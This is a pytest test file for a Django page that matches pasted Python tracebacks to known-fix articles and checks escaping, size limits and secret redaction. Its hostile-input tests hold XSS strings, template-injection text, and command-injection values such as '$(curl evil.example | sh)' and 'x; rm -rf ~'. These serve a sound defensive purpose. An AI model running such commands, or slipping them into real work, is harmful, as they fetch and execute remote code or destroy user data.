"""The match page: the paste box and the answer."""

import html
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.factories import edit_boom, write_article_folder
from tests.pages.tools import BOOM, links, marked, paste_box, text

URL = "/match/"
LIMIT = 10 * 1024 * 1024

UNKNOWN = """\
Traceback (most recent call last):
  File "/home/jane/cook.py", line 3, in <module>
    stir(pot)
  File "/usr/lib/python3.12/site-packages/accelerate/fuse.py", line 7, in stir
    raise RuntimeError(
RuntimeError: The fuse was wet. Please replace the fuse with `fuse.renew()` first.
"""
LAUNCHER = "torch.distributed.elastic.multiprocessing.errors.ChildFailedError: train.py FAILED\n"
CUT = 'Traceback (most recent call last):\n  File "a.py", line 1, in f\n    g()\n'


SIGNATURE = "  - message: \"boom happened in '{place}'\""


def paste(client, report, status=200):
    response = client.post(URL, {"text": report})
    assert response.status_code == status, text(response)
    return response


# ── the box ─────────────────────────────────────────────────────────────────────────────────────────────────────


def test_it_begins_with_an_empty_box(client):
    response = client.get(URL)

    assert response.status_code == 200
    assert paste_box(response) == ""


@pytest.mark.parametrize("report", ["", " ", "\n\n \t\r\n", "\n" * 200_000, "\x00\x00"])
def test_an_empty_paste_is_told_so(client, report):
    response = paste(client, report, status=400)

    assert 'role="alert"' in response.content.decode()
    assert "The paste is empty" in text(response)


def test_a_refused_text_stays_in_the_box(client):
    assert paste_box(paste(client, "  \t ", status=400)) == "  \t "


def test_the_page_says_in_its_first_lines_whether_an_answer_follows_so_that_nothing_moves(client):
    start = '<main class="page begins-with-answer"'

    assert start in paste(client, BOOM).content.decode()
    assert start not in client.get(URL).content.decode()


def test_a_paste_over_the_limit_is_refused_with_413(client):
    response = paste(client, "x" * (LIMIT + 100_000), status=413)

    assert "larger than 10 MB" in text(response)
    assert len(response.content.partition(b"<body>")[2]) < 10_000


def test_a_file_over_the_limit_is_refused_with_413(client):
    response = client.post(URL, {"text": "", "file": SimpleUploadedFile("err.log", b"x" * (LIMIT + 1))})

    assert response.status_code == 413
    assert "larger than 10 MB" in text(response)


def test_a_file_is_read_in_place_of_the_box(client):
    response = client.post(URL, {"text": "", "file": SimpleUploadedFile("err.log", BOOM.encode())})

    assert "The fix of boom." in text(response)


def test_an_unknown_example_is_the_empty_box(client):
    for slug in ("nothing", "../x", "\x00", "boom"):  # boom has nothing recorded
        assert paste_box(client.get(URL, {"example": slug})) == ""


def test_answers_are_never_kept_by_a_cache(client):
    assert "no-store" in paste(client, BOOM)["Cache-Control"]


# ── exact ───────────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_known_error_is_answered_with_its_fix_first(client):
    page = text(paste(client, BOOM))

    order = [
        "Known error",
        "line 3",
        "RuntimeError: boom happened in 'cellar'",
        "The fix of boom.",
        "The cause of boom.",
        "Read the article",
        "Why we are sure",
        "Article: boom happened in '{place}'",
        "Did this help?",
        "Your paste 3 lines",
        "Edit this paste",
    ]
    places = [page.index(part, page.index("Skip to")) for part in order]
    assert places == sorted(places)


def test_the_title_of_the_page_names_the_answer(client):
    assert "<title>Known error: boom happened" in paste(client, BOOM).content.decode()


def test_it_links_to_the_article_and_to_its_scripts(client):
    found = links(paste(client, BOOM))

    assert "/articles/boom/" in found
    assert "/articles/boom/#run-it" in found


def test_the_evidence_is_marked_in_the_paste_itself(client):
    response = paste(client, BOOM)

    assert marked(response) == ["boom happened in 'cellar'"]
    assert 'id="L3"' in response.content.decode()
    assert "#L3" in links(response)


def test_the_evidence_is_marked_in_the_right_place_of_a_dirty_paste(client):
    dirty = "".join(f"\x1b[31m[rank0]: {line}\x1b[0m\r\n" for line in BOOM.splitlines())

    assert marked(paste(client, dirty)) == ["boom happened in 'cellar'"]


def test_a_long_paste_is_folded_around_the_evidence(client):
    noise = "".join(f"step {number}\n" for number in range(500))
    response = paste(client, noise + BOOM + noise)
    page = response.content.decode()
    first, second = (found.start() for found in re.finditer("<details>", page))
    ends = page.index("</details>", first)

    assert "step 100" in page[first:ends]
    assert "<mark" in page[ends:second]


def test_a_huge_paste_gives_a_small_page(client):
    noise = "x" * 79 + "\n"
    response = paste(client, noise * 60_000 + BOOM + noise * 60_000)

    assert marked(response) == ["boom happened in 'cellar'"]
    assert len(response.content) < 600_000
    assert "lines not shown" in text(response)


def test_ten_megabytes_in_one_line_are_answered(client):
    error = "RuntimeError: boom happened in 'cellar'"
    response = paste(client, "x " * ((LIMIT - 1000) // 2) + error)

    assert len(response.content) < 100_000
    assert "characters …" in text(response)


def test_where_it_happened_and_versions_read_from_the_paste_are_shown(client):
    page = text(paste(client, "torch==2.7.1\n" + BOOM))

    assert "Your own line a.py line 1 in your paste: line 3" in page
    assert "torch 2.7.1" in page


def test_the_reader_s_own_line_is_shown_with_the_new_name(client):
    report = (
        'Traceback (most recent call last):\n  File "/home/jane/cook.py", line 3, in <module>\n    stir("<b>", np.{}\n'
    )
    missing = "AttributeError: module 'numpy' has no attribute '{}'.\n"
    page = paste(client, report.format("bool)") + missing.format("bool")).content.decode()

    assert "<del><b>-&nbsp;</b>stir(&quot;&lt;b&gt;&quot;, np.bool)</del>" in page
    assert "<ins><b>+&nbsp;</b>stir(&quot;&lt;b&gt;&quot;, bool)</ins>" in page
    assert "<ins>" not in paste(client, report.format("soup)") + missing.format("soup")).content.decode()


def test_the_comment_for_an_issue_holds_the_error_line_and_nothing_else_of_the_paste(client):
    page = paste(client, "password=hunter2\n" + BOOM).content.decode()
    start = page.index('data-copy="&lt;!-- tracefix exact boom --&gt;')
    comment = page[start : page.index(">", start)]

    assert "RuntimeError: boom happened in &#x27;cellar&#x27;" in comment
    assert "**Fix:** The fix of boom." in comment
    assert "(http://testserver/articles/boom/)" in comment
    assert "hunter2" not in comment
    assert "a.py" not in comment


@pytest.mark.parametrize("report", [BOOM, UNKNOWN])
def test_a_text_for_an_assistant_can_be_copied(client, report):
    page = html.unescape(paste(client, f"{report} hf_abcdefghijklmnopqrstuvwxyzabcdef").content.decode())
    copied = re.search(r'data-copy="(Help me fix.*?)">', page, re.S)[1]

    assert "## What the log does not tell" in copied
    assert "hf_abc" not in copied


def test_a_command_of_the_fix_can_be_copied_with_the_names_of_the_paste(client, articles_dir):
    set_fix(articles_dir, "Run `pip install {{place|PACKAGE}}` in that Python.")

    page = paste(client, BOOM).content.decode()
    hostile = paste(client, "RuntimeError: boom happened in 'x; reboot'").content.decode()

    assert 'data-copy="pip install cellar"' in page
    words = "<span>pip</span> <span>install</span> <span>cellar</span>"  # lines break between words
    assert f"<code>{words}</code></pre>" in page
    assert 'class="run-this"' not in hostile


def test_the_fix_of_the_case_leads_to_its_section(client, articles_dir):
    extra = "cases:\n  - when: '{place} is cellar'\n    fix: Dry the {{place|place}}.\n    section: fix\n"
    edit_boom(articles_dir, "projects:", f"{extra}projects:")

    page = paste(client, BOOM)

    assert "Dry the cellar ." in text(page)
    assert "/articles/boom/#fix" in links(page)


def test_an_article_with_the_title_that_was_pasted_is_not_named_twice(client, articles_dir):
    title = "title: \"RuntimeError: boom happened in 'cellar'\""
    edit_boom(articles_dir, "title: \"boom happened in '{place}'\"", title)

    assert "Article:" not in text(paste(client, BOOM))


def set_fix(articles_dir, fix):
    edit_boom(articles_dir, "fix: The fix of boom.", f'fix: "{fix}"')


# ── likely, none ────────────────────────────────────────────────────────────────────────────────────────────────


DOUBTFUL = {  # a paste, what the page says of it, and what it does not say
    "a sentence that quotes the error": (
        "My colleague says it was boom happened in 'cellar' and went home, so what now?",
        ["Probably this error", "Fix, if this is it The fix of boom."],
        ["Known error"],
    ),
    "no error": (
        "hello there",
        ["We found no error line in your paste.", "No error line in your paste"],
        ["Similar wording"],
    ),
    "a process that was killed": (
        "step 1200 loss 1.93\n./run.sh: line 12: 48213 Killed                  python train.py\n",
        ["Killed from outside"],
        ["We found no error line", "What it means"],
    ),
    "warnings alone": (
        "/usr/lib/python3/a.py:3: UserWarning: the soup is lukewarm\n  stir(pot)\n",
        ["A warning, not an error", "a warning does not stop a program"],
        [],
    ),
    "a launcher alone": (LAUNCHER, ["Not the error itself", "only says that another process failed"], []),
}


@pytest.mark.parametrize(("report", "said", "unsaid"), DOUBTFUL.values(), ids=DOUBTFUL)
def test_what_is_not_one_known_error_is_called_what_it_is(client, report, said, unsaid):
    page = text(paste(client, report))

    assert [words for words in said if words not in page] == []
    assert [words for words in unsaid if words in page] == []


def test_a_kind_of_error_is_answered_with_a_choice(client, articles_dir):
    make_general(
        articles_dir,
        "### The fuse is wet\n\nA wet fuse smells of the cellar. Dry it.\n\n### The fuse is short\n\nBuy.\n",
    )
    page = text(paste(client, BOOM))

    assert "Common error, several causes" in page
    assert "Which one is yours? The fuse is wet A wet fuse smells of the cellar. The fuse is short" in page
    assert "/articles/boom/#the-fuse-is-wet" in links(paste(client, BOOM))
    assert "Probably" not in page


def test_where_a_case_is_chosen_it_comes_first_and_nothing_is_asked(client, articles_dir):
    make_general(articles_dir, "### The fuse is wet\n\nDry it.\n\n### The fuse is short\n\nBuy.\n")
    case = "cases:\n  - when: '{place} is cellar'\n    fix: Buy.\n    section: the-fuse-is-short\n"
    edit_boom(articles_dir, "projects:", f"{case}projects:")

    page = text(paste(client, BOOM))

    assert "If it is something else 2 causes The fuse is short The fuse is wet" in page
    assert "Which one is yours?" not in page


def test_a_known_error_whose_fix_begins_if_is_answered_with_a_choice(client, articles_dir):
    set_fixes(articles_dir, "### The fuse is wet\n\nDry it.\n\n### The fuse is short\n\nBuy.\n")
    set_fix(articles_dir, "If the fuse is wet, dry it. If it is short, buy a longer one.")

    page = text(paste(client, BOOM))

    assert "Known error" in page
    assert "If it is something else 2 causes The fuse is wet The fuse is short" in page
    assert "Which one is yours?" not in page  # the two rows ask it
    assert "What changes in our example" not in page  # the scripts show one of the fixes only


def test_a_known_error_with_one_fix_shows_what_changes_and_asks_nothing(client, articles_dir):
    set_fixes(articles_dir, "### The fuse is wet\n\nDry it.\n\n### The fuse is short\n\nBuy.\n")

    page = text(paste(client, BOOM))

    assert "What changes in our example" in page
    assert "Which one is yours?" not in page


def set_fixes(articles_dir, fixes):
    edit_boom(articles_dir, "## Fix\n\nUse a longer fuse.\n", f"## Fix\n\n{fixes}")


def make_general(articles_dir, fixes):
    set_fixes(articles_dir, fixes)
    edit_boom(articles_dir, SIGNATURE, f"{SIGNATURE}\n    general: true")


def test_an_unknown_error_is_explained_from_its_paste(client):
    response = paste(client, UNKNOWN)
    page = text(response)

    order = [
        "Not covered by an article yet",
        "RuntimeError: The fuse was wet. Please replace the fuse with `fuse.renew()` first.",
        "No article covers this error yet, and we would rather not guess.",
        "The message itself says Please replace the fuse with `fuse.renew()` first.",
        "What to do next",
        "Search for it",
        "Request an article for this error",
        "Your own line /home/jane/cook.py line 3 in your paste: line 2 stir(pot)",
        "Raised in accelerate accelerate/fuse.py:7",
        "Edit this paste",
    ]
    places = [page.index(part) for part in order]
    assert places == sorted(places)
    assert "Fix" not in page.replace("Tracefix", "")
    assert 'rel="noopener noreferrer"' in response.content.decode()


def test_what_a_message_says_is_told_as_read_from_the_paste(client):
    page = text(
        paste(client, "ValidationError: 1 validation error for Fuse\nlength\n  Field required [type=missing, x]")
    )

    assert "Fuse needs length , and it was not given" in page
    assert "Read from your paste: no article covers this error yet." in page
    assert "we would rather not guess" not in page


def test_the_chain_of_errors_is_told_with_the_cause_first(client):
    page = text(paste(client, UNKNOWN + LAUNCHER))

    assert "All errors in your paste" in page
    assert page.index("line 6 · the cause") < page.index("line 7 · only reports another failure")


@pytest.mark.parametrize("evil", ["<img src=x>", "`<b>x</b>`", "{{ x }}", "{evil}"])
def test_names_of_the_paste_in_an_explanation_are_escaped(client, evil):
    page = paste(
        client,
        f"Traceback (most recent call last):\n  File \"{evil}.py\", line 1, in f\n    {evil}\nKeyError: '{evil}'\n",
    )

    assert evil not in page.content.decode() or "<" not in evil


def test_two_known_errors_are_two_answers(client, articles_dir):
    write_article_folder(articles_dir, "clang", message="clang went the {thing}")
    page = text(
        paste(
            client,
            BOOM
            + 'Traceback (most recent call last):\n  File "b.py", line 1, in f\nRuntimeError: clang went the pot\n',
        )
    )

    assert "Your paste shows two different errors." in page
    assert "The fix of boom." in page
    assert "The fix of clang." in page
    assert page.count("Known error ") == 2


def test_a_known_and_an_unknown_error_are_two_answers(client):
    page = text(paste(client, BOOM + UNKNOWN.replace("RuntimeError", "SoupError")))

    assert page.index("The fix of boom.") < page.index("SoupError: The fuse was wet.")
    assert "Your paste shows two different errors." in page
    assert "Request an article for this error" in page


@pytest.mark.parametrize("again", [BOOM, BOOM.replace("[rank0]", "[rank1]"), BOOM.replace("'cellar'", "'attic'")])
def test_one_error_told_twice_is_one_answer(client, again):
    assert "two different errors" not in text(paste(client, BOOM + again))


def test_several_lines_of_one_unknown_failure_are_one_answer(client):
    pip = "ERROR: Could not find a version that satisfies the requirement x==1\nERROR: No matching distribution found for x==1\n"

    assert "two different errors" not in text(paste(client, pip))


def test_what_only_sounds_similar_is_named_twice_at_most(client, articles_dir):
    for number in range(5):
        write_article_folder(articles_dir, f"plop-{number}", message=f"plop number {number} went the pot")
    page = text(paste(client, "RuntimeError: plop went the pot"))

    assert "Similar wording, possibly unrelated" in page
    assert page.count("The cause of plop") == 2


def test_what_shares_only_a_word_or_two_is_not_named(client):
    page = text(paste(client, "RuntimeError: the wallpaper of the guest room burnt while nobody was looking at it"))

    assert "Similar wording" not in page
    assert "The cause of" not in page


def test_a_paste_that_stops_too_early_is_told_so(client):
    response = paste(client, CUT)

    assert "stops before its error line" in text(response)
    assert "The error line is missing" in text(response)
    assert re.search(r'<details [^>]*id="edit" open>', response.content.decode())


# ── editing ─────────────────────────────────────────────────────────────────────────────────────────────────────


def test_the_paste_stands_in_the_box_again_so_that_lines_can_be_added(client):
    response = paste(client, UNKNOWN)

    assert paste_box(response) == UNKNOWN
    assert 'autocomplete="off"' in response.content.decode()


def test_a_paste_that_is_too_long_is_not_put_back(client):
    response = paste(client, BOOM + "x\n" * 60_000)

    assert paste_box(response) == ""
    assert "too long to show here again" in text(response)


def test_colours_survive_as_the_pictures_that_are_read_again(client):
    dirty = "".join(f"\x1b[31m{line}\x1b[0m\r\n" for line in BOOM.splitlines())
    again = paste_box(paste(client, dirty))

    assert "\x1b" not in again
    assert "Known error" in text(paste(client, again))


# ── hostile text ────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        "</textarea><img src=x onerror=alert(1)>",
        "</code></pre><b>bold</b>",
        "<mark>me</mark>",
    ],
)
def test_html_in_a_paste_is_shown_and_never_run(client, evil):
    response = paste(client, f"RuntimeError: {evil} boom happened in '{evil}'")
    page = response.content.decode()

    assert evil not in page
    assert evil in text_of_paste(page)


def test_template_code_in_a_paste_is_shown_and_never_run(client):
    page = paste(client, "RuntimeError: {{ settings.SECRET_KEY }} {% now 'Y' %} {{7|add:7}}").content.decode()

    assert "{{ settings.SECRET_KEY }} {% now &#x27;Y&#x27; %} {{7|add:7}}" in page


def test_markup_in_a_captured_value_is_escaped_in_the_fix(client, articles_dir):
    set_fix(articles_dir, "Leave the `{{place|house}}`.")

    assert "Leave the attic ." in text(paste(client, "RuntimeError: boom happened in 'attic'"))
    page = paste(client, "RuntimeError: boom happened in '<i>x</i>'").content.decode()
    assert "<i>x</i>" not in page
    assert "&lt;i&gt;x&lt;/i&gt;" in page


@pytest.mark.parametrize(
    "report",
    [
        bytes(range(256)) * 40,
        b"\x00".join(b"RuntimeError: x" for _ in range(50)),
        b"\xff\xfe\xfa broken \xc3\x28 utf-8 \xed\xa0\x80",
        b"\x7fELF\x02\x01\x01" + b"\x00" * 500 + b"text",
    ],
)
def test_bytes_that_are_no_text_are_answered_all_the_same(client, report):
    response = client.post(URL, {"text": "", "file": SimpleUploadedFile("core", report)})

    assert response.status_code == 200
    assert not any(char in response.content for char in (b"\x00", b"\x1b", b"\x08"))


def test_200_000_lines_with_one_error_are_answered(client):
    response = paste(client, "\n" * 200_000 + BOOM)

    assert marked(response) == ["boom happened in 'cellar'"]


def test_other_methods_are_refused(client):
    assert client.put(URL).status_code == 405
    assert client.delete(URL).status_code == 405


def test_a_form_that_breaks_off_is_a_clear_error(client):
    response = client.post(URL, b"--x\r\nnot a form", content_type="multipart/form-data; boundary=y z")

    assert response.status_code == 400


def text_of_paste(page):
    shown = page[page.index('id="paste-shown"') :]
    return html.unescape(re.sub(r"</?(?:mark|span|code|pre|i|div|p)(?: [^>]*)?>", "", shown))


def test_the_link_to_share_carries_the_line_that_fits_behind_the_hash(client):
    words = client.post("/match/", {"text": f"secret=1\n{BOOM}secret=2\n"}).content.decode()

    assert 'data-copy="http://testserver/articles/boom/#error=RuntimeError:+boom+happened+in+%27cellar%27"' in words


def test_the_link_to_share_is_no_longer_than_an_error_line(client):
    words = client.post("/match/", {"text": BOOM.replace("cellar", "cellar " * 90)}).content.decode()
    (link,) = re.findall('data-copy="(http[^"]*#error=[^"]*)"', words)

    assert 300 < len(link) < 500


def test_the_link_to_share_carries_no_secret(client):
    words = client.post(
        "/match/", {"text": BOOM.replace("cellar", "https://me:hunter2@cellar.example")}
    ).content.decode()

    (link,) = re.findall('data-copy="(http[^"]*#error=[^"]*)"', words)
    assert "boom" in link
    assert "hunter2" not in link


def test_without_a_match_there_is_nothing_to_share(client):
    assert "#error=" not in client.post("/match/", {"text": "KeyError: 'soup'"}).content.decode()


def test_an_article_that_nearly_fits_is_named_without_our_patterns(articles_dir, client):
    edit_boom(articles_dir, SIGNATURE, f"{SIGNATURE}\n    where: {{place: cellar}}")

    answer = text(client.post("/match/", {"text": BOOM.replace("cellar", "attic")}))

    assert "Similar wording, possibly unrelated boom happened" in answer
    assert "fits, but" not in answer


def test_what_the_article_of_a_launcher_says_to_do_is_not_said_twice(client, articles_dir):
    folder = write_article_folder(articles_dir, "launcher", message="ChildFailedError: {script} FAILED")
    front = (folder / "article.md").read_text(encoding="utf-8")
    front = front.replace('  - message: "ChildFailedError', '  - role: wrapper\n    message: "ChildFailedError')
    (folder / "article.md").write_text(front, encoding="utf-8")

    page = text(paste(client, LAUNCHER))

    assert "The fix of launcher." in page
    assert "only says that another process failed" not in page


def test_an_error_line_of_100_kb_is_answered_with_its_beginning(client):
    response = paste(client, f"SoupError: the soup of {'many words ' * 10_000}is cold\n")
    (headline,) = re.findall(r'<h1 id="error-1"[^>]*>(.*?)</h1>', response.content.decode())

    assert headline.startswith("SoupError: the soup of many words")
    assert len(headline) <= 301
    assert len(response.content.partition(b"<body>")[2]) < 40_000


# ── values that nobody expects ──────────────────────────────────────────────────────────────────────────────────────

HOSTILE = {
    "HTML": "<img src=x onerror=alert(1)>",
    "a shell command": "$(curl evil.example | sh)",
    "a second command": "x; rm -rf ~",
    "a path with spaces": "/data/my models/last one.ckpt",
    "300 characters": "deep/" * 60,
    "a backtick and a brace": "`{{place|x}}`",
}


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_value_is_text_in_prose_and_never_part_of_a_command(client, articles_dir, value):
    set_fix(articles_dir, "Look at {{place|it}}, then run `pip install {{place|PACKAGE}}`.")

    response = paste(client, f"RuntimeError: boom happened in '{value}'")
    page = response.content.decode()

    assert "Known error" in text(response)
    assert f'<span class="yours">{html.escape(value)}</span>' in page  # in the prose of the fix
    assert 'pip install <span class="example"' in page
    assert 'class="run-this"' not in page
    assert "<img src=x" not in page


def test_a_value_of_more_than_300_characters_is_cut_in_the_fix(client, articles_dir):
    set_fix(articles_dir, "Look at {{place|it}}.")

    page = paste(client, f"RuntimeError: boom happened in '{'x' * 1000}'").content.decode()

    assert f'<span class="yours">{"x" * 300}…</span>' in page


def test_the_question_that_asks_for_missing_lines_can_be_copied_in_the_language_of_the_page(client):
    page = paste(client, CUT).content.decode()
    chinese = client.post("/zh-hans/match/", {"text": CUT}).content.decode()

    asked = [html.unescape(re.search(r'data-copy="([^"]*)" data-key="q"', each)[1]) for each in (page, chinese)]
    assert all(each.startswith("<!-- tracefix question cut -->") for each in asked)
    assert "Which line comes next?" in asked[0]
    assert "Which line" not in asked[1]
    assert "jane" not in "".join(asked)
    assert 'data-key="q"' not in paste(client, BOOM).content.decode()
    assert 'data-key="q"' not in paste(client, UNKNOWN).content.decode()


def test_what_a_cut_paste_names_is_explained_beside_the_lines_that_it_lacks(client):
    said = """HTTPSConnectionPool(host='hub.example', port=443): Read timed out. (read timeout=10)"""
    report = f"""Warning: Failed to read 'soup' of 'kitchen'. Error: (ReadTimeoutError("{said}"), '(Request ID: 7)')"""
    page = text(paste(client, f"{report}\nTraceback (most recent call last):\n"))

    assert "More lines needed" in page
    assert "What it means An answer did not come in time" in page


def test_shapes_that_do_not_fit_are_drawn_and_said(client):
    response = paste(client, "RuntimeError: mat1 and mat2 shapes cannot be multiplied (32x512 and 256x10)")

    assert "The shapes that do not fit input 32 512 does not fit weight 256 does not fit 10" in text(response)


def test_a_bar_of_releases_marks_the_installed_one(client):
    gone = "TypeError: TrainingArguments.__init__() got an unexpected keyword argument 'evaluation_strategy'"
    response = paste(client, f"{gone}\ntransformers==4.57.1\n")
    words = text(response)

    assert "has it: 3.2.0 – 4.50.3" in words
    assert "4.57.1 is installed" in words
    assert response.content.decode().count('class="installed"') == 1
